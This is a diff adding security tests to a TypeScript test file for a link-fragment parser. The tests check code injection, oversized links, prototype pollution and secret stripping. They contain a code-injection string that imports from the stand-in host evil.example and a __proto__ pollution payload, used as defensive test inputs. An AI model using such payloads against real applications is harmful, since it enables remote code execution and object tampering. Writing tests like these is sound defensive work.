@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { EMPTY_CHECK, EMPTY_SIGN, type Forms } from '../../../src/inspector/forms.js'
+import { EMPTY_CHECK, EMPTY_SIGN, type Forms, withoutKeys } from '../../../src/inspector/forms.js'
 import { formsOf, fragmentOf, withoutSecrets } from '../../../src/inspector/link.js'
 
 const SECRET = 'hunter2-hunter2'
@@ -69,4 +69,47 @@ test('what a link has no business to state is not taken from it', () => {
   const given = { key: SECRET, passphrase: 'x', text: 7, __proto__: 'x', constructor: 'y', at: 'now' }
   const fragment = `#check=${btoa(JSON.stringify(given)).replace(/=+$/, '')}`
   expect(formsOf(fragment)?.check).toEqual({ ...EMPTY_CHECK, at: 'now' })
+})
+
+test('a link plants no code: words of the program are words, or are left out', () => {
+  const hostile = "okx'\nimport('https://evil.example/')//"
+  for (const [side, name] of [
+    ['sign', 'scheme'],
+    ['sign', 'algorithm'],
+    ['sign', 'method'],
+    ['sign', 'bodyAs'],
+    ['check', 'scheme'],
+    ['check', 'algorithm'],
+  ] as const) {
+    const text = Buffer.from(JSON.stringify({ [name]: hostile, url: 'https://a.example/' })).toString('base64url')
+    const forms = formsOf(`#${side}=${text}`)
+    expect(forms).toBeDefined()
+    expect(JSON.stringify(forms)).not.toContain('evil')
+  }
+})
+
+test('a link that is too long is neither made nor opened', () => {
+  const check = { ...CHECK, text: 'x'.repeat(200_000) }
+  expect(fragmentOf({ side: 'check', check, sign: EMPTY_SIGN })).toBe('')
+  const long = Buffer.from(JSON.stringify({ text: 'x'.repeat(5_000_000) })).toString('base64url')
+  expect(formsOf(`#check=${long}`)).toBeUndefined()
+})
+
+test('a link changes no prototype', () => {
+  const text = Buffer.from('{"__proto__":{"polluted":"yes"},"constructor":"x","text":"a"}').toString('base64url')
+  const forms = formsOf(`#check=${text}`) as Forms
+  expect(forms.check).toEqual({ ...EMPTY_CHECK, text: 'a' })
+  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
+  expect((forms.check as unknown as Record<string, unknown>)['polluted']).toBeUndefined()
+})
+
+test('the forms without the keys are the rest as it was', () => {
+  const full = {
+    side: 'sign',
+    check: { ...CHECK, key: SECRET },
+    sign: { ...EMPTY_SIGN, key: SECRET, passphrase: 'p' },
+  } as const
+  const left = withoutKeys(full)
+  expect(JSON.stringify(left)).not.toMatch(/hunter2|"p"/)
+  expect(left).toMatchObject({ side: 'sign', check: { text: CHECK.text }, sign: { url: EMPTY_SIGN.url } })
 })
